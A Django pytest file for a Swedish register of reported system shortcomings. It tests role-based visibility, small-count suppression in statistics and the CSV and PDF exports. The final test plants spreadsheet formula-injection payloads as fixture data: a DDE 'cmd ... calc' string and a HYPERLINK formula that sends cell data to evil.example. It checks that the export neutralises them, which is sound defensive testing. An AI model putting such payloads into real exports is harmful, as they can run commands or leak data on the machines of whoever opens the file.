"""Register, statistics, exports: scoping, small-count suppression, fixed query counts."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse

from systembrister.models import Level, Outcome, Status
from tests.systembrister.factories import SupportFactory, SystembristFactory, meeting_for

pytestmark = pytest.mark.django_db


def client_for(user) -> Client:  # type: ignore[no-untyped-def]
    c = Client()
    c.force_login(user)
    return c


def make_reports(world, n: int, **kw):  # type: ignore[no-untyped-def]
    orgs = [world.orgs["fk"], world.orgs["af"]]
    made = []
    for i in range(n):
        r = SystembristFactory(
            verksamhet=world.verksamhet,
            reporter=world.ombud_omar,
            status=kw.get("status", Status.ACCEPTED),
            level=Level.LOKAL,
            organisations=orgs,
        )
        SupportFactory(systembrist=r, ombud=world.ombud_anna, clients_affected=i + 1)
        made.append(r)
    return made


@pytest.mark.parametrize("role", ["lead_lars", "member_fk", "ombud_anna"])
def test_register_query_count_is_fixed(world, role, django_assert_max_num_queries) -> None:  # type: ignore[no-untyped-def]
    c = client_for(world.users[role])
    make_reports(world, 3)
    with django_assert_max_num_queries(14) as small:
        assert c.get(reverse("systembrister:list")).status_code == 200
    make_reports(world, 22)
    with django_assert_max_num_queries(14) as large:
        response = c.get(reverse("systembrister:list"))
    assert response.status_code == 200
    assert len(large.captured_queries) == len(small.captured_queries)


def test_register_filters_by_status_and_year(world) -> None:  # type: ignore[no-untyped-def]
    make_reports(world, 2)
    closed = SystembristFactory(
        verksamhet=world.verksamhet,
        reporter=world.ombud_anna,
        status=Status.CLOSED,
        title="Stängd rapport om färdtjänst",
    )
    c = client_for(world.lead_lars)
    html = c.get(reverse("systembrister:list"), {"status": "closed"}).content.decode()
    assert closed.title in html and "Långa handläggningstider" not in html
    old = SystembristFactory(
        verksamhet=world.verksamhet,
        reporter=world.ombud_anna,
        status=Status.CLOSED,
        title="Gammal rapport",
        submitted_at=datetime.datetime(2024, 3, 1, tzinfo=datetime.UTC),
    )
    html = c.get(reverse("systembrister:list"), {"year": "2024"}).content.decode()
    assert old.title in html and closed.title not in html


def test_member_sees_own_organisation_and_agenda_only(world) -> None:  # type: ignore[no-untyped-def]
    mine = SystembristFactory(
        verksamhet=world.verksamhet,
        reporter=world.ombud_anna,
        status=Status.ACCEPTED,
        title="Rör Försäkringskassan",
        organisations=[world.orgs["fk"]],
    )
    agenda = SystembristFactory(
        verksamhet=world.verksamhet,
        reporter=world.ombud_anna,
        status=Status.ON_AGENDA,
        title="På dagordningen",
        organisations=[world.orgs["kommun"]],
        meeting=meeting_for(world.verksamhet),
    )
    hidden = SystembristFactory(
        verksamhet=world.verksamhet,
        reporter=world.ombud_anna,
        status=Status.ACCEPTED,
        title="Rör bara kommunen",
        organisations=[world.orgs["kommun"]],
    )
    submitted = SystembristFactory(
        verksamhet=world.verksamhet,
        reporter=world.ombud_anna,
        status=Status.SUBMITTED,
        title="Ännu inte granskad",
        organisations=[world.orgs["fk"]],
    )
    c = client_for(world.member_fk)
    html = c.get(reverse("systembrister:list")).content.decode()
    assert mine.title in html and agenda.title in html
    assert hidden.title not in html and submitted.title not in html
    for r in (hidden, submitted):
        assert c.get(reverse("systembrister:detail", args=[r.pk])).status_code == 404
    # Once closed, a report of another organisation leaves the member's view.
    type(agenda).objects.filter(pk=agenda.pk).update(status=Status.CLOSED)
    assert c.get(reverse("systembrister:detail", args=[agenda.pk])).status_code == 404
    # No client data reachable: no link into the clients app from the page.
    detail = c.get(reverse("systembrister:detail", args=[mine.pk])).content.decode()
    assert "/klienter/" not in detail


def test_grant_officer_sees_closed_only(world) -> None:  # type: ignore[no-untyped-def]
    open_ = make_reports(world, 1)[0]
    closed = SystembristFactory(
        verksamhet=world.verksamhet, reporter=world.ombud_anna, status=Status.CLOSED
    )
    c = client_for(world.grant_gunilla)
    assert c.get(reverse("systembrister:detail", args=[open_.pk])).status_code == 404
    assert c.get(reverse("systembrister:detail", args=[closed.pk])).status_code == 200


def _stats_rows(response) -> dict[tuple[str, str], str]:  # type: ignore[no-untyped-def]
    """(grouping, value) -> the number, or the flag of a hidden number (its cell is empty)."""
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert all(r[3] == "" or r[3].isdigit() for r in rows[1:])  # numbers stay numbers
    return {(r[1], r[2]): r[3] or r[4] for r in rows[1:]}


def test_small_counts_are_suppressed_outside_the_staff(world, settings) -> None:  # type: ignore[no-untyped-def]
    settings.SMALL_COUNT_THRESHOLD = 5
    make_reports(world, 3)  # 3 accepted: a small count
    for _ in range(6):
        SystembristFactory(
            verksamhet=world.verksamhet,
            reporter=world.ombud_anna,
            status=Status.CLOSED,
            outcome=Outcome.RESOLVED,
            level=Level.CENTRAL,
        )
    url = reverse("systembrister:statistics_csv")
    member = _stats_rows(client_for(world.member_fk).get(url))
    staff = _stats_rows(client_for(world.lead_lars).get(url))
    accepted = ("Status", str(Status.ACCEPTED.label))
    closed = ("Status", str(Status.CLOSED.label))
    assert staff[accepted] == "3"
    assert member[accepted] == "färre än 5"
    # 3 + 6 = 9 reported: the 6 is hidden too, or the 3 would be 9 − 6.
    assert staff[closed] == "6" and member[closed] == "dold"
    assert member[("Totalt", "Rapporterade")] == "9"
    assert member[("Status", str(Status.SUBMITTED.label))] == "0"
    page = client_for(world.member_fk).get(reverse("systembrister:statistics")).content.decode()
    assert "färre än 5" in page
    page = client_for(world.grant_gunilla).get(reverse("systembrister:statistics")).content.decode()
    assert "färre än 5" not in page


def test_threshold_is_a_setting(world, settings) -> None:  # type: ignore[no-untyped-def]
    settings.SMALL_COUNT_THRESHOLD = 3
    make_reports(world, 3)
    rows = _stats_rows(client_for(world.member_fk).get(reverse("systembrister:statistics_csv")))
    assert rows[("Status", str(Status.ACCEPTED.label))] == "3"


def test_register_csv_masks_client_counts_for_members(world) -> None:  # type: ignore[no-untyped-def]
    r = make_reports(world, 1)[0]  # 3 + 1 clients
    text = client_for(world.member_fk).get(reverse("systembrister:register_csv")).content
    assert r.title in text.decode("utf-8-sig") and ";;färre än 5;" in text.decode("utf-8-sig")
    text = client_for(world.lead_lars).get(reverse("systembrister:register_csv")).content
    assert ";4;" in text.decode("utf-8-sig")


def test_year_pdf(world) -> None:  # type: ignore[no-untyped-def]
    make_reports(world, 2)
    response = client_for(world.lead_lars).get(reverse("systembrister:year_pdf"))
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


def test_csv_formula_injection_register_export(world) -> None:  # type: ignore[no-untyped-def]
    world.orgs["fk"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.orgs["fk"].save()
    report = make_reports(world, 1)[0]
    report.title = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    report.save()
    response = client_for(world.lead_lars).get(reverse("systembrister:register_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows[1:] if r[0] == str(report.pk))
    assert row[1] == "'" + report.title
    assert row[5].startswith("'@SUM(1+1)")
    assert row[6] == "4"  # the client count is still a plain number
